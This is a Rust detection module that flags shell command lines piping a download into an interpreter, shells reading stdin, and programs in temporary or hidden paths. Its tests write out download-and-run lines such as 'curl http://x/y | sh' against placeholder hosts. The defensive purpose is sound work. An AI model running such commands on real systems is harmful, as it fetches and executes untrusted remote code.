//! What a command line says about itself. Only general forms: no tool's or attacker's particular words.

use crate::catalogue::base_name;
use crate::event::Exec;
use bstr::ByteSlice;

const SHELLS: [&[u8]; 8] = [b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python3", b"perl"];
const FETCHERS: [&[u8]; 5] = [b"curl", b"wget", b"fetch", b"aria2c", b"lwp-download"];

/// The text that a shell was given with `-c`.
fn given(image: &Exec) -> Option<&[u8]> {
    let after = image.argv.iter().position(|argument| argument.starts_with(b"-") && argument.ends_with(b"c"))?;
    let operand = image.argv.iter().skip(after + 1).find(|argument| argument.as_slice() != b"--")?;
    Some(operand)
}

/// Whether a shell's command fetches something and pipes it into a shell or interpreter.
pub fn downloads_and_runs(image: &Exec) -> bool {
    let Some(text) = given(image) else {
        return false;
    };
    let mut fetched = false;
    for part in text.split(|byte| *byte == b'|') {
        let words = || part.split(|byte| b" \t\n;&()<>$`'\"{}".contains(byte)).filter(|word| !word.is_empty());
        if fetched && words().next().is_some_and(|first| SHELLS.contains(&base_name(first))) {
            return true;
        }
        fetched |= words().any(|word| FETCHERS.contains(&base_name(word)));
    }
    false
}

/// Whether a shell was given neither a command nor a script, so that it reads what it is to do.
pub fn reads_commands(image: &Exec) -> bool {
    given(image).is_none() && image.argv.iter().skip(1).all(|argument| argument.starts_with(b"-"))
}

/// Whether an interpreter was given nothing but a script and its arguments: no code, no option, nothing hidden.
pub fn runs_script(image: &Exec) -> bool {
    const RUN_SCRIPTS: [&str; 7] = ["python", "perl", "ruby", "php", "node", "lua", "tclsh"];
    let name = base_name(&image.executable);
    let script = image.argv.get(1).filter(|script| !script.starts_with(b"-") && !script.is_empty());
    RUN_SCRIPTS.iter().any(|known| name.starts_with(known.as_bytes()))
        && script.is_some_and(|script| script.find(b"/.").is_none() && !script.starts_with(b"."))
}

/// Whether a program lies where everybody may write and nothing is installed, or is hidden.
pub fn hidden_or_temporary(executable: &[u8]) -> bool {
    const TEMPORARY: [&[u8]; 4] = [b"/tmp/", b"/var/tmp/", b"/dev/shm/", b"/run/user/"];
    TEMPORARY.iter().any(|place| executable.starts_with(place)) || executable.find(b"/.").is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{program, shell};

    #[test]
    fn fetching_and_running_is_told_from_fetching() {
        for (command, expected) in [
            ("curl http://x/y | sh", true),
            ("wget -q -O- http://x/y|bash", true),
            ("(curl -s u||wget -q -O- u)|bash", true),
            ("/usr/bin/curl u | tee log | /bin/sh", true),
            ("curl -s http://x/health | grep ok", false),
            ("tar c . | ssh host sh", false),
            ("echo curl", false),
        ] {
            assert_eq!(downloads_and_runs(&shell(command)), expected, "{command}");
        }
    }

    #[test]
    fn a_shell_that_is_fed_has_no_operand() {
        for (command, expected) in
            [("sh", true), ("bash -i", true), ("sh -s", true), ("sh -c id", false), ("sh /x.sh", false)]
        {
            assert_eq!(reads_commands(&program("/bin/sh", command)), expected, "{command}");
        }
    }
}
